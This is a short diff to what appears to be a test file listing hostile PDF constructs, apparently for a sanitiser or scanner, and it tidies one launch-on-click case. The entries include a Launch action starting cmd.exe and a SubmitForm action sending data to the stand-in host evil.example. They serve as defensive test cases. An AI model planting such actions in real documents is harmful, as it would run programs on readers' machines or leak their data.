@@ -184,8 +184,8 @@ def _active_pdfs() -> Iterator[Hostile]:
         ("program", _action("Launch", F=String("cmd.exe")), "starts a program"),
         (
             "program on a click",
-            _remark(Subtype=Name.Link, A=Dictionary(S=Name.Launch)),
-            "starts",
+            _remark(Subtype=Name.Link, A=launch),
+            "starts a program",
         ),
         ("form that sends", _action("SubmitForm", F=String("http://evil.example")), "sends what"),
         ("form that reads", _action("ImportData", F=String("x.fdf")), "reads another file"),
